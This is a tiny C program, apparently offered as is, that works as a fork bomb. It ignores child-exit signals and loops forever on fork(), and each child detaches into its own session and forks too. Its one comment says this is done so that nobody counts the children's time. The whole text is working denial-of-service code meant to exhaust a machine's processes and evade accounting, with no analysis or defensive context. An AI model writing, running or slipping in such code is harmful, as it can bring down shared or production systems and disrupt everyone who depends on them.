// Forks in every process, ignores the deaths of its children so that nobody counts their time.
#include <signal.h>
#include <stdlib.h>
#include <unistd.h>
int main() {
    signal(SIGCHLD, SIG_IGN);
    for (;;) if (fork() == 0) setsid();
}
